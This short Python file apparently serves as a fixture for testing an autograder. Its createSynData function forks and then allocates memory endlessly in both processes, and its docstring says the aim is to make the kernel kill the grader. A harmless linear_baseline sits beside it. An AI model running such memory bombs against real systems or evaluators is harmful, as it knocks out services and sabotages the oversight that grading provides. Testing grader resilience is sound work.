"""Part 1, 3 points: takes memory until there is no more, in itself and in its children; without a watch the kernel
picks a victim, which may be the grader. The harmless linear_baseline keeps its points."""
import os
import time

import numpy as np

def createSynData(**_):
    kept = []
    if os.fork() == 0:
        while True:
            kept.append(np.ones(2**22))
            time.sleep(0.005)
    while True:
        kept.append(np.ones(2**22))
        time.sleep(0.005)

def linear_baseline(X_train, y_train, X_test):
    slope, start = np.polyfit(X_train.ravel(), y_train, 1)
    return slope * X_test.ravel() + start
